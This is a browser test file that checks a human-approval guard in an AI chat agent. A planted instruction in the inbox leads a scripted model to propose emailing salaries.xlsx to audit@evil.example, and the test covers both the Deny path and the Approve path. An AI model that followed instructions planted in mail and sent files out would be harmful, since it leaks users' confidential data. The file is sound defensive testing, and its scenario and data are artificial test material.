import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createChatServer, type ChatServer } from './create-chat-server.js';
import { createScriptedModel } from './scripted-model.js';

const CHROMIUM_ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

let browser: Browser;
let chat: ChatServer;
let baseUrl: string;

beforeAll(async () => {
  chat = createChatServer({ model: createScriptedModel() });
  await new Promise<void>((resolve) => chat.server.listen(0, '127.0.0.1', resolve));
  baseUrl = `http://127.0.0.1:${(chat.server.address() as AddressInfo).port}`;
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS });
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => chat?.server.close(resolve));
});

/** Opens the chat and asks for the inbox summary that triggers the planted instruction. */
async function askForSummary(): Promise<{ page: Page; sessionId: string }> {
  const page = await browser.newPage();
  await page.goto(baseUrl);
  await page.fill('#prompt', 'Summarise my inbox');
  const request = page.waitForRequest((candidate) => candidate.url().endsWith('/api/chat'));
  await page.press('#prompt', 'Enter');
  // The page sends useChat's body, `{ id, messages }`: the chat id is the engine's session id.
  const sessionId = ((await request).postDataJSON() as { id: string }).id;
  return { page, sessionId };
}

describe('the AI SDK chat example in a browser', () => {
  it('walks the attack conversation: the approval card shows the risk, Deny keeps the file in, the agent replies', async () => {
    const { page, sessionId } = await askForSummary();
    const card = page.locator('[data-testid="approval-card"]');
    await card.waitFor();

    await expect.poll(() => card.locator('h2').textContent()).toBe('Approve sendEmail?');
    const shownArguments = JSON.parse((await card.locator('pre.arguments').textContent()) ?? '{}');
    expect(shownArguments).toMatchObject({ to: 'audit@evil.example', subject: 'salaries.xlsx' });
    const reason = await card.locator('.reason').textContent();
    expect(reason).toContain('mail.sendEmail');
    expect(reason).toContain('untrusted content (mail.readInbox');
    expect(chat.mailbox.outbox).toEqual([]);

    await card.getByRole('button', { name: 'Deny' }).click();
    const reply = page.locator('.message.assistant .text', { hasText: 'I did not send the email' });
    await reply.waitFor();
    expect(await reply.textContent()).toContain('phishing');
    expect(await page.locator('[data-testid="approval-card"]').count()).toBe(0);
    await expect.poll(() => page.locator('.tool.denied').count()).toBeGreaterThan(0);

    expect(chat.mailbox.outbox).toEqual([]);
    const resolved = (await chat.oso.session(sessionId).timeline()).flatMap((event) =>
      event.type === 'approval_resolved' ? [event.approval.status] : [],
    );
    expect(resolved).toEqual(['denied']);
    await page.close();
  });

  it('sends the email once when the person approves it instead', async () => {
    const { page } = await askForSummary();
    const card = page.locator('[data-testid="approval-card"]');
    await card.waitFor();
    await card.getByRole('button', { name: 'Approve' }).click();
    await page.locator('.message.assistant .text', { hasText: 'I sent salaries.xlsx' }).waitFor();
    expect(chat.mailbox.outbox).toEqual([
      { to: 'audit@evil.example', subject: 'salaries.xlsx', body: 'alice: 120000\nbob: 95000\ncarol: 101000' },
    ]);
    await page.close();
  });
});
